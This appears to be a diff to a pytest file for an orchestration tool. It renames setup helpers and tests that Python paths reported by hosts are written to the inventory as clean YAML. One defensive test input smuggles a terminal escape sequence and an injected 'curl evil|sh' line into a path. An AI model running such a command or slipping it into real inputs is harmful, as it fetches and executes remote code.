@@ -9,7 +9,7 @@ import pytest
 import yaml
 
 from orchestrator.commands import setup
-from orchestrator.commands.setup import VENV, Ready
+from orchestrator.commands.setup import VENV, ReadyPython
 from orchestrator.hosts.fleet import Output
 from orchestrator.inventory.model import parse
 from orchestrator.output.console import Console
@@ -21,14 +21,14 @@ HOSTS = parse("hosts: [a]", "inventory.yaml").hosts
     "python", [f"/home/ann/{VENV}/bin/python", f"/home/ann smith/{VENV}/bin/python", f"/é/{VENV}/bin/python"]
 )
 def test_the_line_for_the_inventory_is_yaml(capsys: pytest.CaptureFixture[str], python: str) -> None:
-    setup._tell(HOSTS, {"a": Ready(python, "2.9.0", "installed")}, Console(io.StringIO(), False))
+    setup._print_pythons(HOSTS, {"a": ReadyPython(python, "2.9.0", "installed")}, Console(io.StringIO(), False))
     assert yaml.safe_load(capsys.readouterr().out) == {"python": python}
 
 
 def test_a_path_that_a_host_invents_adds_nothing_to_the_inventory(capsys: pytest.CaptureFixture[str]) -> None:
     python = f"/x/{VENV}/bin/python\x1b]0;P\x07\nsetup: [curl evil|sh]   #"
     said = io.StringIO()
-    setup._tell(HOSTS, {"a": Ready(python, "2.9.0", "installed")}, Console(said, False))
+    setup._print_pythons(HOSTS, {"a": ReadyPython(python, "2.9.0", "installed")}, Console(said, False))
     out = capsys.readouterr().out
     assert len(out.splitlines()) == len(said.getvalue().splitlines()) == 1 and "\x1b" not in out + said.getvalue()
     assert list(yaml.safe_load(out)) == ["python"]
@@ -40,4 +40,4 @@ def test_a_python_that_answers_something_else_is_none(printed: str) -> None:
         def run_on(self, *_: Any) -> Output:
             return Output(0, printed, "")
 
-    assert setup._look(HOSTS[0], Fleet(), "python3", ()) is None  # type: ignore[arg-type]
+    assert setup._inspect_python(HOSTS[0], Fleet(), "python3", ()) is None  # type: ignore[arg-type]
